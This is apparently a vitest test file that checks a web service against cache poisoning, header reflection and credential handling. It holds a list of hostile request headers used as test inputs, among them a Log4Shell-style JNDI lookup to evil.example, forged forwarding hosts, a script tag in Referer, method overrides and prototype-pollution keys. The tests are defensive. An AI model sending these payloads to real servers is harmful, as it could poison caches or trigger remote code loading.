import { describe, expect, test } from 'vitest';
import { publishedHosts } from './fixture.ts';
import { header, request, type RawResponse } from './raw-client.ts';
import { readableTargets, targetsOfEachKind } from './routes.ts';

const fixture = publishedHosts();

/** Headers that no cache takes into its key. An answer that changed with one of them could be planted for everyone. */
const unkeyed: readonly (readonly [string, string])[] = [
  ['X-Forwarded-Host', 'evil.example'],
  ['X-Forwarded-Server', 'evil.example'],
  ['X-Forwarded-Proto', 'http'],
  ['X-Forwarded-Scheme', 'http'],
  ['X-Forwarded-Port', '8443'],
  ['X-Forwarded-Prefix', '/evil'],
  ['X-Forwarded-Path', '/evil'],
  ['X-Forwarded-For', '198.51.100.7'],
  ['X-Real-IP', '198.51.100.7'],
  ['Forwarded', 'for=198.51.100.7;host=evil.example;proto=http'],
  ['X-Host', 'evil.example'],
  ['X-HTTP-Host-Override', 'evil.example'],
  ['X-Original-Host', 'evil.example'],
  ['X-Original-URL', '/api/listings'],
  ['X-Rewrite-URL', '/api/listings'],
  ['X-Original-URI', '/api/listings'],
  ['X-Override-URL', '/api/listings'],
  ['X-HTTP-Method-Override', 'DELETE'],
  ['X-HTTP-Method', 'POST'],
  ['X-Method-Override', 'PUT'],
  ['Via', '1.1 evil.example'],
  ['Front-End-Https', 'off'],
  ['CF-Connecting-IP', '198.51.100.7'],
  ['True-Client-IP', '198.51.100.7'],
  ['CDN-Loop', 'evil'],
  ['Authorization', 'Bearer abc.def.ghi'],
  ['Authorization', 'Basic YWRtaW46YWRtaW4='],
  ['Authorization', '\u0080 not even a scheme'],
  ['Proxy-Authorization', 'Basic YWRtaW46YWRtaW4='],
  ['X-Api-Key', 'abc'],
  ['Cookie', 'session=abc; lang=fr; __Host-x=1'],
  ['Cookie', 'a'.repeat(4000)],
  ['Accept-Language', 'fr-CA, ar;q=0.9'],
  ['Accept-Charset', 'utf-16'],
  ['Accept', 'text/html, application/xhtml+xml'],
  ['Accept', 'image/png'],
  ['Accept', 'text/event-stream'],
  ['User-Agent', 'Googlebot/2.1 (+http://www.google.com/bot.html)'],
  ['User-Agent', '${jndi:ldap://evil.example/a}'],
  ['Referer', 'https://evil.example/?<script>'],
  ['Origin', 'https://evil.example'],
  ['Origin', 'null'],
  ['Sec-Fetch-Site', 'cross-site'],
  ['Sec-CH-UA-Mobile', '?1'],
  ['Access-Control-Request-Method', 'DELETE'],
  ['Access-Control-Request-Headers', 'X-Evil'],
  ['Access-Control-Request-Private-Network', 'true'],
  ['Range', 'pages=1-2'],
  ['If-Range', '"nope"'],
  ['If-Match', '"nope"'],
  ['If-Modified-Since', 'Fri, 31 Dec 9999 23:59:59 GMT'],
  ['If-Unmodified-Since', 'Thu, 01 Jan 1970 00:00:00 GMT'],
  ['Cache-Control', 'no-cache, no-store'],
  ['Pragma', 'akamai-x-get-cache-key'],
  ['Content-Type', 'text/html'],
  ['Content-Encoding', 'gzip'],
  ['Content-Language', 'de'],
  ['Upgrade-Insecure-Requests', '1'],
  ['Save-Data', 'on'],
  ['DNT', '1'],
  ['TE', 'trailers, deflate'],
  ['Max-Forwards', '0'],
  ['Prefer', 'return=minimal'],
  ['Want-Digest', 'sha-256'],
  ['Idempotency-Key', 'x'],
  ['Transfer-Encoding-X', 'chunked'],
  ['X-Middleware-Prefetch', '1'],
  ['X-Astro-Path', '/evil'],
  ['X-Matched-Path', '/evil'],
  ['X-Invoke-Path', '/evil'],
  ['RSC', '1'],
  ['__proto__', 'x'],
  ['constructor', 'x'],
  ['traceparent', '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01'],
];

const volatile = new Set(['date', 'ratelimit', 'ratelimit-remaining', 'ratelimit-reset']);
const described = ({ headers }: RawResponse) => headers.filter(([name]) => !volatile.has(name)).map(([name, value]) => `${name}: ${value}`);
const read = (target: string, headers: readonly (readonly [string, string])[]) => request(fixture.port, target, { headers });

/** What is answered to a read without further headers: asked for once, since it is the same for each of them. */
const plain = new Map<string, Promise<RawResponse>>();
function readPlainly(target: string, coding: string): Promise<RawResponse> {
  const key = `${coding} ${target}`;
  const response = plain.get(key) ?? read(target, [['Accept-Encoding', coding]]);
  plain.set(key, response);
  return response;
}

describe('headers that no cache keys on', () => {
  test('number at least 40', () => {
    expect(new Set(unkeyed.map(([name]) => name.toLowerCase())).size).toBeGreaterThanOrEqual(40);
  });

  test.each(unkeyed)('%s: %s changes no byte, no tag and no header of any read', async (name, value) => {
    for (const target of targetsOfEachKind(fixture.folder, fixture.market)) {
      for (const coding of ['identity', 'br']) {
        const without = await readPlainly(target, coding);
        const having = await read(target, [
          ['Accept-Encoding', coding],
          [name, value],
        ]);
        expect(having.status, target).toBe(200);
        expect(having.body.equals(without.body), target).toBe(true);
        expect(header(having, 'etag')).toBe(header(without, 'etag'));
        expect(described(having)).toEqual(described(without));
      }
    }
  });

  test('change nothing when all are sent at once', async () => {
    const once = [...new Map(unkeyed.map(([name, value]) => [name, value.slice(0, 100)] as const))];
    for (const target of readableTargets(fixture.folder, fixture.market)) {
      const [without, having] = [await read(target, []), await read(target, once)];
      expect(having.body.equals(without.body), target).toBe(true);
      expect(described(having)).toEqual(described(without));
    }
  });

  test('are echoed in no response, errors included', async () => {
    const marked = [
      'X-Forwarded-Host',
      'X-Host',
      'Forwarded',
      'X-Original-URL',
      'Referer',
      'Origin',
      'User-Agent',
      'Cookie',
      'Authorization',
      'X-Forwarded-Proto',
      'Via',
      'Accept-Language',
    ].map((name): [string, string] => [name, 'marker-7c2e']);
    for (const target of [
      '/api/companies',
      '/api/nothing',
      '/nothing',
      '/api/companies?limit=0',
      '/api/listings',
      '/api/companies/',
      '//api/companies',
      '/.well-known/openapi.json',
    ]) {
      for (const method of ['GET', 'POST', 'OPTIONS']) {
        const response = await request(fixture.port, target, { method, headers: marked });
        expect(`${described(response).join('\n')}\n${response.body.toString()}`).not.toContain('marker-7c2e');
      }
    }
  });
});

describe('credentials', () => {
  test.each(['Bearer abc', 'Basic YTpi', 'Digest x', 'garbage', '', 'Bearer', 'Bearer  ', 'Negotiate YII='])(
    'Authorization: %j never closes a public read',
    async (value) => {
      for (const target of targetsOfEachKind(fixture.folder, fixture.market))
        expect((await read(target, [['Authorization', value]])).status).toBe(200);
      const json = ['Content-Type', 'application/json'] as const;
      for (const [target, body] of [
        ['/api/companies/batch', '{"slugs":["nobody"]}'],
        ['/ask', '{"query":"crane"}'],
      ] as const) {
        expect((await request(fixture.port, target, { method: 'POST', headers: [json, ['Authorization', value]], body })).status).toBe(200);
      }
    },
  );

  test('no credential opens an account surface, and no answer sets a cookie', async () => {
    for (const { path } of fixture.market.service.private_surfaces) {
      for (const headers of [[], [['Authorization', 'Bearer abc']], [['Cookie', 'session=abc']]] as const) {
        // Wanted ads are read by everyone at the address where they are published.
        const response =
          path === '/api/wanted-ads' ? await request(fixture.port, path, { method: 'POST', headers }) : await read(path, headers);
        expect(response.status, path).toBe(401);
        expect(header(response, 'set-cookie')).toBeNull();
        expect(header(response, 'www-authenticate')).toBe(
          'Bearer resource_metadata="https://cranes.example/.well-known/oauth-protected-resource"',
        );
      }
    }
  });
});
